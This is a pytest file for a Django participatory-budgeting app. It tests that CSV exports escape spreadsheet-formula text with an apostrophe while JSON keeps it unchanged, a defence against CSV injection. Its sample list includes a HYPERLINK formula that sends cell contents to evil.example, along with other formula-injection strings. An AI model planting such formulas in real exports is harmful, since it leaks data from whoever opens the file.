"""CSV downloads never hand a spreadsheet a formula: text cells starting with = + - @ (or a tab or CR) get a leading
apostrophe, numbers stay numbers, and JSON keeps every text exactly (OWASP "CSV injection")."""

import csv
import io
import json
from io import StringIO

import pytest
from django.core.cache import cache
from django.core.management import call_command

from pb_module.api.open_data import _cell
from pb_module.models import Ballot, PBCyclePage, Proposal, ProposalPage
from pb_module.rules.statuses import Status
from pb_module.rules.text import csv_safe

from .. import factories as f

FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example/?"&A1;"Click")', "+7 701", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["Саябақ = 5 млн", "1-2", "", "'=1", "a@b.kz", 0, -5, -0.25, 3.5, True, None])
def test_other_text_and_every_number_stay_as_they_are(value):
    assert csv_safe(value) is value


def test_a_cell_of_the_open_data_csv():
    assert (_cell(-12), _cell(-0.5), _cell("-12"), _cell("=A1"), _cell(None), _cell(False)) == (
        "-12",
        "-0.5",
        "'-12",
        "'=A1",
        "",
        "false",
    )


@pytest.fixture
def formula_titles(db):
    """Two public proposals (in discussion, so the API lists them) whose titles and summaries a spreadsheet
    would run."""
    cache.clear()
    talk = f.cycle(schedule="discussion", title="Fx формулалар", slug="fx-formulas")
    moderator = f.make_moderator()
    first, second = (
        f.ProposalFactory(cycle=talk, status=Status.IN_DISCUSSION, moderator=moderator).pk for _ in range(2)
    )
    ProposalPage.objects.filter(proposal_id=first).update(title="=1+1", summary="@SUM(A1)")
    ProposalPage.objects.filter(proposal_id=second).update(title="-2+3", summary="\t=cmd")
    yield first, second
    cache.clear()


def test_the_proposals_csv_neutralises_formulas_and_json_keeps_them(client, formula_titles):
    first, second = formula_titles
    rows = {
        int(row["id"]): row
        for row in csv.DictReader(io.StringIO(client.get("/api/v1/proposals/", {"format": "csv"}).content.decode()))
    }
    assert (rows[first]["title"], rows[first]["summary"]) == ("'=1+1", "'@SUM(A1)")
    assert (rows[second]["title"], rows[second]["summary"]) == ("'-2+3", "'\t=cmd")
    assert rows[first]["cost"].isdigit()  # numbers are left alone
    items = {item["id"]: item for item in client.get("/api/v1/proposals/", {"limit": 1000}).json()["results"]}
    assert (items[first]["title"], items[first]["summary"]) == ("=1+1", "@SUM(A1)")
    assert (items[second]["title"], items[second]["summary"]) == ("-2+3", "\t=cmd")


PB_FILE = """META
key;value
description;Formula test
country;Kazakhstan
unit;Aqtau
district;Formula
instance;2024
num_projects;2
num_votes;2
budget;100
vote_type;approval
rule;greedy
max_length;①
PROJECTS
project_id;cost;name
=1+1;10;Sum
-2;20;Minus
VOTES
voter_id;vote;age
v1;=1+1,-2;²
v2;-2;40
"""


def run(*args) -> str:
    out = StringIO()
    call_command(*args, stdout=out)
    return out.getvalue()


@pytest.mark.django_db
def test_pb_export_csv_neutralises_ids_from_an_imported_file_and_json_keeps_them(tmp_path):
    path = tmp_path / "formula.pb"
    path.write_text(PB_FILE, encoding="utf-8")
    cycle_id = int(run("pb_import", str(path)).strip().splitlines()[-1])
    # "①" and "²" are no numbers (str.isdigit() says they are; int() refuses them): no limit, an unknown age.
    assert PBCyclePage.objects.get(pk=cycle_id).ballot_max_choices is None
    assert sorted(Ballot.objects.filter(cycle_id=cycle_id).values_list("age_band", flat=True)) == ["35-44", "unknown"]
    rows = list(csv.reader(io.StringIO(run("pb_export", str(cycle_id), "--format", "csv"))))
    assert rows[0] == ["voter_id", "project_id", "points", "age_band"]
    assert {row[1] for row in rows[1:]} == {"'=1+1", "'-2"}
    assert {row[2] for row in rows[1:]} == {"1"}
    exported = json.loads(run("pb_export", str(cycle_id), "--format", "json"))
    assert {p["project_id"] for p in exported["projects"]} == {"=1+1", "-2"}
    assert set(Proposal.objects.filter(cycle_id=cycle_id).values_list("external_id", flat=True)) == {"=1+1", "-2"}
